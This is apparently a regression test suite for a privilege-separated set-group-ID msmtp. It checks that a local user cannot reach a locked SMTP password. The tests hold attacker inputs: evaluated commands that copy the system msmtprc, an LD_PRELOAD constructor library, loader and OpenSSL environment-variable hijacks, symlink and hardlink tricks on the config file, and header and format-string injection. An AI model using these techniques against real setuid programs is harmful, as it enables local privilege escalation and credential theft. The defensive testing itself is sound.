# Copyright (c) 2026 The msmtp-privsep authors
#
# Permission to use, copy, modify, and distribute this software for any
# purpose with or without fee is hereby granted, provided that the above
# copyright notice and this permission notice appear in all copies.
#
# THE SOFTWARE IS PROVIDED "AS IS" AND THE AUTHOR DISCLAIMS ALL WARRANTIES
# WITH REGARD TO THIS SOFTWARE INCLUDING ALL IMPLIED WARRANTIES OF
# MERCHANTABILITY AND FITNESS. IN NO EVENT SHALL THE AUTHOR BE LIABLE FOR
# ANY SPECIAL, DIRECT, INDIRECT, OR CONSEQUENTIAL DAMAGES OR ANY DAMAGES
# WHATSOEVER RESULTING FROM LOSS OF USE, DATA OR PROFITS, WHETHER IN AN
# ACTION OF CONTRACT, NEGLIGENCE OR OTHER TORTIOUS ACTION, ARISING OUT OF
# OR IN CONNECTION WITH THE USE OR PERFORMANCE OF THIS SOFTWARE.
#
# What a local user tries who may call a set-group-ID msmtp, to get at the
# password in a configuration that he may not read: a part of it, in what he
# is told, in his files, or at a server of his own.

. "$MSMTP_SRC/regress/lib/smtp.sh"
. "$MSMTP_SRC/regress/lib/locked.sh"

CANARY=Qx7.kanarie.Zw93.vogel
SPARE=Hj2.zanglijster.Pf58

# play: two servers, the administrator's and one of the user's own (EVIL, in
# ./evil); two locked accounts, "default" and "spare".
play() {
	locked_needs
	mkdir evil
	cd evil
	server_start -t 900
	EVIL=$PORT
	EVIL_SERVER=$SERVER
	cd ..
	server_start -t 900
	printf 'needauth\nauth me@example.com %s\n' $CANARY | script
	{
		echo 'auth plain'
		echo 'user me@example.com'
		echo "password $CANARY"
		echo 'account spare : default'
		echo 'from spare@example.com'
		# The second line is never the password.
		echo "passwordeval printf '$SPARE\\nx\\n'; true # $SPARE"
	} | conf
	mv msmtprc sys.rc
	export PORT EVIL
}

# safe: no part of a secret is anywhere, and nobody came to the evil server.
safe() {
	python3 "$MSMTP_SRC/regress/lib/leak.py" $CANARY out err out.d \
	    evil/srv >leaks || fail "a secret leaked: $(cat leaks)"
	python3 "$MSMTP_SRC/regress/lib/leak.py" $SPARE out err out.d \
	    evil/srv >leaks || fail "a secret leaked: $(cat leaks)"
	kill -USR1 "$EVIL_SERVER"
	wait_for 6 test -e evil/srv/synced || fail 'the evil server is stuck'
	[ ! -e evil/srv/out/cmds ] ||
	    fail "a server of the user's was asked: $(cat evil/srv/out/cmds)"
}

# codes REGEX: every attack ended so: "NAME STATUS" matches.
codes() {
	[ -s out.d/codes ] || fail 'nothing was tried'
	bad=$(grep -Evx "$1" out.d/codes | head -3)
	[ -z "$bad" ] || fail "unexpected: $bad $(cat out.d/*.err | head -20)"
}

tc the_checks_see_a_leak
the_checks_see_a_leak_body() {
	play
	locked_run <<'EOT'
cp "$etc/msmtprc" "$HOME/readable"
chmod 644 "$HOME/readable"
try cat cat readable
EOT
	is "cat 0" "$(cat out.d/codes)"
	for file in out.d/1.out out.d/home/readable; do
		! python3 "$MSMTP_SRC/regress/lib/leak.py" $CANARY "$file" \
		    >leaks || fail "$file: not seen"
	done
	for coding in 'base64 -w 0' 'xxd -p' rev; do
		command -v ${coding%% *} >/dev/null || continue
		echo "x$CANARY" | $coding >coded
		! python3 "$MSMTP_SRC/regress/lib/leak.py" $CANARY coded \
		    >leaks || fail "$coding: not seen"
	done
}

# What an attacker gives to the option; the empty string: it does not exist.
evil_value() {
	case $1 in
	host|proxy-host|tls-host-override)	echo localhost ;;
	port|proxy-port)	echo "$EVIL" ;;
	source-ip)		echo 127.0.0.2 ;;
	socket)			echo "$PWD/socket" ;;
	timeout|connect-timeout) echo 1 ;;
	protocol)		echo lmtp ;;
	domain|ntlmdomain|maildomain)	echo evil.example ;;
	auth)			echo login ;;
	user)			echo root ;;
	*eval)			echo 'cat msmtprc; id' ;;
	tls|tls-starttls)	echo on ;;
	tls-certcheck)		echo off ;;
	tls-trust-file|tls-crl-file|tls-key-file|tls-cert-file)
				echo /etc/hostname ;;
	tls-fingerprint)
		echo "$(printf 'AB:%.0s' $(seq 31))AB" ;;
	tls-priorities)		echo PROTOCOLS=TLSv1.2 ;;
	tls-min-dh-prime-bits)	echo 512 ;;
	tls-force-sslv3)	echo on ;;
	from)			echo evil@example.com ;;
	auto-from)		echo on ;;
	set-*|add-missing-*)	echo auto ;;
	undisclosed-recipients|remove-bcc-headers|keepbcc)	echo on ;;
	dsn-notify)		echo never ;;
	dsn-return)		echo full ;;
	dsn-envid)		echo id ;;
	dsn-orcpt)		echo on ;;
	logfile|aliases)	echo ./file ;;
	logfile-time-format)	echo %s ;;
	syslog)			echo on ;;
	sandbox)		echo relaxed ;;
	chunking|partial-delivery)	echo off ;;
	*)			fail "--$1: say what an attacker gives to it" ;;
	esac
}

# Settings that belong to the caller's mail, not to the administrator's server,
# and one that is ignored.
FREE='tls-force-sslv3|from|set-.*|add-missing-.*|undisclosed-recipients|remove-bcc-headers'
FREE="$FREE|keepbcc|dsn-.*|aliases"

tc every_setting_by_option
every_setting_by_option_body() {
	play
	"$MSMTP" --help | sed -n '/^Settings/,$s/^  --\([a-z][a-z0-9-]*\).*/\1/p' \
	    >options
	[ "$(wc -l <options)" -ge 30 ] || fail "options: $(cat options)"
	while read -r name; do
		value=$(evil_value "$name") || exit 1
		for account in default spare; do
			echo "try $name \$etc/msmtp -a $account" \
			    "--$name='$value' you@example.org"
			echo "try $name \$etc/msmtp -a $account -P" \
			    "--$name='$value' you@example.org"
			echo "try $name \$etc/msmtp -a $account -S" \
			    "--$name='$value'"
		done
	done <options >attacks
	still_good
	locked_run <attacks
	safe
	grep -Evx "($FREE) (0|64|69|77|78)|host 64|.* 77" out.d/codes >bad &&
	    fail "$(cat bad)"
	grep -Ex 'port 77' out.d/codes >/dev/null || fail "$(cat out.d/codes)"
}

tc every_other_option
every_other_option_body() {
	play
	locked_run <<'EOT'
for mode in -P -S '' --version --help -t '-t -P' --read-envelope-from; do
	try ok $etc/msmtp $mode you@example.org
	try debug $etc/msmtp $mode -d you@example.org
	try debug $etc/msmtp $mode --debug=0.1 you@example.org
done
try file $etc/msmtp -C $etc/msmtprc you@example.org
try file $etc/msmtp -C $etc/msmtprc -P you@example.org
try file $etc/msmtp -C $etc/msmtprc -a spare -d you@example.org
try file $etc/msmtp -C /dev/stdin -P you@example.org
try file $etc/msmtp -C /proc/self/environ -P you@example.org
try host $etc/msmtp --host=localhost --port=$EVIL -P you@example.org
try host $etc/msmtp --host=localhost --account=default you@example.org
try log $etc/msmtp -X - you@example.org
try log $etc/msmtp -X $HOME/log you@example.org
try name $etc/msmtp -F "$(printf 'a\nBcc: b@c')" you@example.org
try format $etc/msmtp -f '%s%n%x' %n%s
try mode $etc/msmtp --rmqs=example.org
try mode $etc/msmtp --configure=a@localhost
try account $etc/msmtp -a msmtprc you@example.org
try account $etc/msmtp -a '' you@example.org
try password $etc/msmtp --password=x you@example.org
EOT
	safe
	codes '(ok|debug|host|file|mode|format) [0-9]+|(log|name|account) '\
'(64|77|78)|password 64'
	hasnt out.d/codes ' (70|134|139|137)$'
}

# Somebody else's directory with programs and libraries.
evil_tools() {
	cat >evil.c <<'EOT'
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void
mark(void)
{
	(void)close(open(MARKER, O_CREAT | O_WRONLY, 0666));
}
EOT
	cc -shared -fPIC -DMARKER="\"$MSMTP_STAGE/etc/home/loaded\"" -o evil.so \
	    evil.c || atf_skip 'needs a C compiler'
	export EVIL_SO=$PWD/evil.so
}

tc every_variable
every_variable_body() {
	play
	evil_tools
	locked_run <<'EOT'
mkdir "$HOME/bin" "$HOME/tmp" "$HOME/lib" "$HOME/.config"
cp "$EVIL_SO" "$HOME/evil.so"
for lib in libc.so.6 libbsd.so.0 libmd.so.0 libidn2.so.0 libgsasl.so.18; do
	cp "$EVIL_SO" "$HOME/lib/$lib"
done
for program in sh echo printf sleep true msmtp-net msmtp-auth; do
	printf '#!/bin/sh\n: >%s/ran\n' "$HOME" >"$HOME/bin/$program"
done
chmod 755 "$HOME/bin"/*
printf 'localhost evil.example\n' >"$HOME/aliases"
printf 'openssl_conf = x\n[x]\nengines = y\n[y]\nz = w\n[w]\n' >"$HOME/o.cnf"
printf 'dynamic_path = %s/evil.so\ninit = 1\n' "$HOME" >>"$HOME/o.cnf"
chown -R "$LOCAL_USER:$LOCAL_USER" "$HOME"
# The library does mark.
user env LD_PRELOAD="$HOME/evil.so" /bin/true
[ -e "$HOME/loaded" ] || exit 7
rm -f "$HOME/loaded"
while read -r setting; do
	eval "setting=\"$setting\""
	for account in default spare; do
		try "${setting%%=*}" "$setting" $etc/msmtp -a $account \
		    you@example.org
	done
done <<'VARS'
LD_PRELOAD=$HOME/evil.so
LD_LIBRARY_PATH=$HOME/lib
LD_AUDIT=$HOME/evil.so
LD_DEBUG=all
LD_DEBUG_OUTPUT=$HOME/tmp/ld
LD_PROFILE=libc.so.6
LD_PROFILE_OUTPUT=$HOME/tmp
LD_ORIGIN_PATH=$HOME/lib
LD_BIND_NOT=1
LD_SHOW_AUXV=1
LD_HWCAP_MASK=0
LD_TRACE_LOADED_OBJECTS=1
GLIBC_TUNABLES=glibc.malloc.perturb=1:glibc.malloc.check=3
MALLOC_TRACE=$HOME/tmp/trace
MALLOC_CHECK_=3
MALLOC_PERTURB_=1
GCONV_PATH=$HOME/lib
LOCPATH=$HOME
NLSPATH=$HOME/%N
LANG=../../../home/lib
LC_ALL=$HOME
LANGUAGE=$HOME
CHARSET=$HOME
OUTPUT_CHARSET=x
GETCONF_DIR=$HOME
TZ=$HOME/evil.so
TZ=:$etc/msmtprc
TZDIR=$etc
TMPDIR=$HOME/tmp
TMPDIR=$etc
TMPDIR=/nonexistent
HOME=$etc
HOME=/nonexistent
HOME=
XDG_CONFIG_HOME=$etc
USER=root
LOGNAME=root
HOSTNAME=evil.example
HOSTNAME=$etc/msmtprc
EMAIL=evil@example.com
SMTPSERVER=localhost:$EVIL
PATH=$HOME/bin
SHELL=$HOME/bin/sh
ENV=$HOME/bin/sh
BASH_ENV=$HOME/bin/sh
SHELLOPTS=xtrace
PS4=\$(echo)
IFS=/
CDPATH=$HOME
PWD=$etc
POSIXLY_CORRECT=1
OPENSSL_CONF=$HOME/o.cnf
OPENSSL_ENGINES=$HOME
OPENSSL_MODULES=$HOME
OPENSSL_ia32cap=0
SSLKEYLOGFILE=$HOME/tmp/keys
SSL_CERT_FILE=$HOME/evil.so
SSL_CERT_DIR=$HOME
RANDFILE=$etc/msmtprc
RES_OPTIONS=debug
LOCALDOMAIN=evil.example
HOSTALIASES=$HOME/aliases
RESOLV_HOST_CONF=$etc/msmtprc
RESOLV_ADD_TRIM_DOMAINS=x
KRB5_CONFIG=$etc/msmtprc
KRB5CCNAME=FILE:$etc/msmtprc
KRB5_TRACE=$HOME/tmp/krb5
KRB5_KTNAME=$etc/msmtprc
GSS_MECH_CONFIG=$HOME/o.cnf
SASL_PATH=$HOME
GNUTLS_SYSTEM_PRIORITY_FILE=$etc/msmtprc
IDN_DISABLE=1
GCOV_PREFIX=$HOME/tmp
LLVM_PROFILE_FILE=$HOME/tmp/profile
ASAN_OPTIONS=log_path=$HOME/tmp/asan
TERM=$etc/msmtprc
TERMINFO=$etc
COLUMNS=99999999999999999999
ALL_PROXY=socks5://localhost:$EVIL
socks_proxy=localhost:$EVIL
VARS
try many env $(seq -f A%g=x 2000) $etc/msmtp you@example.org
EOT
	safe
	[ ! -e out.d/home/loaded ] || fail 'a library of the user was loaded'
	[ ! -e out.d/home/ran ] || fail 'a program of the user was run'
	[ -z "$(ls -A out.d/home/tmp)" ] ||
	    fail "files were left: $(ls out.d/home/tmp)"
	# None of these is a reason not to send: but for a HOME that cannot be,
	# which has no configuration of the user's, they change nothing.
	codes '[A-Za-z0-9_]+ (0|75|77)'
	has out.d/codes '^PATH 0$'
	has out.d/codes '^LD_PRELOAD 0$'
}

tc a_configuration_of_the_users_own
a_configuration_of_the_users_own_body() {
	play
	locked_run <<'EOT'
rc() {
	{ cat; } >"$HOME/.msmtprc"
	chown "$LOCAL_USER" "$HOME/.msmtprc"
	chmod 600 "$HOME/.msmtprc"
}
E="host localhost
port $EVIL
from evil@example.com"
# Each takes something of the locked account's along, or its place.
printf 'account evil : default\nport %s\n' "$EVIL" | rc
try inherit $etc/msmtp -a evil you@example.org
printf 'account evil : spare\nport %s\n' "$EVIL" | rc
try inherit $etc/msmtp -a evil you@example.org
printf 'account default : default\nport %s\n' "$EVIL" | rc
try inherit $etc/msmtp you@example.org
printf 'defaults\nport %s\nproxy_host localhost\nproxy_port %s\n' "$EVIL" \
    "$EVIL" | rc
try defaults $etc/msmtp you@example.org
printf 'defaults\nlogfile %s/log\nauth login\npasswordeval id\n' "$HOME" | rc
try defaults $etc/msmtp you@example.org
printf 'port %s\n' "$EVIL" | rc
try nothing $etc/msmtp -f spare@example.com you@example.org
printf 'account default\n%s\naccount a\nport 1\n' "$(echo "$E" |
    sed "s/port .*/port 1/")" | rc
try shadow $etc/msmtp you@example.org
# His own commands have none of the privilege.
for what in passwordeval eval; do
	{
		[ $what = eval ] || printf 'account evil\n%s\n' "$E"
		[ $what = eval ] || echo 'auth plain'
		[ $what = eval ] || echo 'user u'
		printf '%s id -G >%s/gids; cat %s >%s/stolen; echo x\n' \
		    $what "$HOME" "$etc/msmtprc" "$HOME"
	} | rc
	sed -i "s/^port .*/port 1/" "$HOME/.msmtprc"
	try own $etc/msmtp -a evil you@example.org
done
# A file that is a lot.
head -c 70000 /dev/zero | tr '\0' a | rc
try long $etc/msmtp you@example.org
printf 'host a\0b\n' | rc
try nul $etc/msmtp you@example.org
EOT
	safe
	hasnt out.d/home/gids "$LOCAL_GROUP"
	has out.d/home/gids "^$LOCAL_USER\$"
	is '' "$(cat out.d/home/stolen)" stolen
	codes '(inherit|long|nul) 78|nothing 0|shadow 75|defaults (0|78)|'\
'own (75|78)'
}

tc links_to_the_configuration
links_to_the_configuration_body() {
	play
	mail >m
	locked_run <<'EOT'
sum=$(sha256sum <msmtprc)
ln -s "$etc/msmtprc" "$HOME/.msmtprc"
try link $etc/msmtp you@example.org
try link $etc/msmtp -P -a spare you@example.org
rm "$HOME/.msmtprc"
# As root: where the system lets users make such links.
ln "$etc/msmtprc" "$HOME/.msmtprc"
try link $etc/msmtp you@example.org
try link $etc/msmtp -P -a spare you@example.org
try option $etc/msmtp -C "$HOME/.msmtprc" you@example.org
rm "$HOME/.msmtprc"
ln -s "$etc/msmtprc" "$HOME/.netrc"
try link $etc/msmtp you@example.org
mkdir "$HOME/.config"
ln -s "$etc" "$HOME/.config/msmtp"
ln -s msmtprc "$etc/config"
try link $etc/msmtp you@example.org
rm "$etc/config"
# A copy of the link elsewhere has helpers that are not ours.
ln "$etc/msmtp" "$HOME/msmtp-hard" 2>/dev/null
mkdir -p "$HOME/libexec/msmtp"
try link "$HOME/msmtp-hard" you@example.org
# What it writes may not go there.
try option $etc/msmtp -X "$etc/msmtprc" you@example.org
rm -f "$HOME/.config/msmtp"
printf 'account own\nhost localhost\nport 1\nfrom a@b.c\n' >"$HOME/.msmtprc"
printf 'logfile %s\n' "$etc/msmtprc" >>"$HOME/.msmtprc"
chown "$LOCAL_USER" "$HOME/.msmtprc"
try log $etc/msmtp -a own you@example.org
[ "$sum" = "$(sha256sum <msmtprc)" ] || exit 6
EOT
	safe
	codes 'link (0|78)|option (74|77)|log 75'
}

tc closed_descriptors_and_odd_ones
closed_descriptors_and_odd_ones_body() {
	play
	cat >closed.py <<'EOT'
import os, sys
closed = [int(c) for c in sys.argv[1]]
fill = sys.argv[2]
for fd in closed:
    os.close(fd)
if fill == "many":
    for _ in range(200):
        os.set_inheritable(os.open("/dev/null", os.O_RDWR), True)
    for fd in closed:
        os.close(fd)
os.execv(sys.argv[3], sys.argv[3:])
EOT
	cp closed.py m2
	locked_run <<'EOT'
sum=$(sha256sum <msmtprc)
cp "$OUT/../closed.py" "$HOME/closed.py"
for fds in 0 1 2 01 02 12 012; do
	for fill in none many; do
		for account in default spare nobody; do
			try "$fds" python3 closed.py $fds $fill $etc/msmtp \
			    -a $account you@example.org
			try "$fds" python3 closed.py $fds $fill $etc/msmtp -P \
			    -a $account you@example.org
		done
	done
done
[ "$sum" = "$(sha256sum <msmtprc)" ] || exit 6
EOT
	safe
	codes '[012]* (0|65|66|74|75|78)'
}

tc resource_limits
resource_limits_body() {
	command -v prlimit >/dev/null || atf_skip 'needs prlimit'
	play
	locked_run <<'EOT'
for limit in nofile=0 nofile=3 nofile=4 nofile=5 nofile=6 nofile=7 nofile=8 \
    nofile=10 nofile=12 fsize=0 fsize=1 fsize=100 nproc=1 nproc=2 cpu=1 \
    stack=8192 stack=65536 data=0 data=65536 data=400000 as=1000000 \
    as=4000000 as=8000000 as=16000000 memlock=0 rss=0 sigpending=0 \
    msgqueue=0 nice=0 rtprio=0 locks=0 core=unlimited; do
	for account in default spare; do
		try "$limit" prlimit --"$limit" -- $etc/msmtp -a $account \
		    you@example.org
	done
done
EOT
	safe
	# The kernel and the linker may end it before it begins.
	codes '[a-z]*=[0-9a-z]* (0|1|7[012458]|12[67]|137|139|153)'
	has out.d/codes '^core=unlimited 0$'
	has out.d/codes '^memlock=0 0$'
}

tc signals_at_every_moment
signals_at_every_moment_body() {
	play
	locked_run <<'EOT'
for account in default spare; do
	for sig in HUP INT TERM PIPE CHLD; do
		delay=0
		while [ $delay -lt 20000 ]; do
			try "$sig" "$LOCAL" signal $sig $delay $etc/msmtp \
			    -a $account you@example.org
			delay=$((delay + 500))
		done
	done
done
EOT
	safe
	codes '[A-Z]* (0|7[045]|129|130|141|143)'
}


# The secret of a locked account from netrc, and its user from eval: the mail
# goes out with it, and an own account for the same host does not get it.
tc netrc_and_eval_of_the_system
netrc_and_eval_of_the_system_body() {
	play
	{
		echo 'auth plain'
		echo "eval printf 'user me@example.com'; : $SPARE"
	} | conf
	mv msmtprc sys.rc
	cat >begin <<EOT
echo 'machine localhost login me@example.com password $CANARY' >"\$etc/netrc"
chown 0:"\$LOCAL_GROUP" "\$etc/netrc"
chmod 640 "\$etc/netrc"
EOT
	cat begin - >netrc.sh <<'EOT'
user cat "$etc/netrc" >/dev/null 2>&1 && exit 7
try mail $etc/msmtp you@example.org
try show $etc/msmtp -P you@example.org
try other $etc/msmtp -d you@example.org
try other $etc/msmtp --user=root you@example.org
try other $etc/msmtp --port=$EVIL you@example.org
try other $etc/msmtp --host=localhost --port=$EVIL --auth=plain \
    --user=me@example.com -f evil@example.com you@example.org
printf 'account own\nhost localhost\nport %s\nfrom a@b.c\nauth plain\n' \
    "$EVIL" >"$HOME/.msmtprc"
printf 'user me@example.com\n' >>"$HOME/.msmtprc"
chown "$LOCAL_USER" "$HOME/.msmtprc"
chmod 600 "$HOME/.msmtprc"
try own $etc/msmtp -a own you@example.org
EOT
	locked_run <netrc.sh
	safe
	codes 'mail 0|show 77|other [67][0-9]|own (69|78)'
	has out.d/codes '^mail 0$'
	delivered
	has srv/out/cmds '^AUTH PLAIN'
}

# The key of a locked account, which its caller cannot read, and its passphrase.
tc key_of_a_locked_account
key_of_a_locked_account_body() {
	play
	keys=$MSMTP_OBJ/regress/certs_tls
	sh "$MSMTP_SRC/regress/server/mkcerts_tls.sh" "$keys" >keys.out 2>&1 ||
	    fail "no certificates: $(cat keys.out)"
	server_stop
	rm -f srv/certs
	ln -s "$keys" srv/certs
	server_start -t 900
	printf 'tls starttls\nclientca ca\n' | script
	openssl pkey -in "$keys/rsa.key" -aes256 -passout "pass:$CANARY" \
	    -out enc.key || fail 'cannot encrypt the key'
	cp "$keys/ca.pem" "$keys/rsa.pem" .
	cat >lines <<-EOT
		tls on
		tls_trust_file $MSMTP_STAGE/etc/ca.pem
		tls_key_file $MSMTP_STAGE/etc/enc.key
		tls_cert_file $MSMTP_STAGE/etc/rsa.pem
		tls_key_passwordeval echo $CANARY
	EOT
	conf <lines
	mv msmtprc sys.rc
	locked_run <<'EOT'
cp "$OUT/../ca.pem" "$OUT/../rsa.pem" "$OUT/../enc.key" "$etc"
chmod 644 "$etc/ca.pem" "$etc/rsa.pem"
chown 0:"$LOCAL_GROUP" "$etc/enc.key"
chmod 640 "$etc/enc.key"
user cat "$etc/enc.key" >/dev/null 2>&1 && exit 7
try mail $etc/msmtp you@example.org
try show $etc/msmtp -P you@example.org
try other $etc/msmtp -d you@example.org
try other $etc/msmtp --port=$EVIL you@example.org
try other $etc/msmtp --tls-key-passwordeval='cat enc.key' you@example.org
printf 'account own\nhost localhost\nport %s\nfrom a@b.c\ntls on\n' \
    "$EVIL" >"$HOME/.msmtprc"
printf '%s\n' "tls_trust_file $etc/ca.pem" "tls_key_file $etc/enc.key" \
    "tls_cert_file $etc/rsa.pem" "tls_key_passwordeval id" >>"$HOME/.msmtprc"
chown "$LOCAL_USER" "$HOME/.msmtprc"
chmod 600 "$HOME/.msmtprc"
try own $etc/msmtp -a own you@example.org
EOT
	safe
	codes 'mail 0|show 0|other [67][0-9]|own (66|78)'
	delivered
	has srv/out/cmds '^TLS'
}
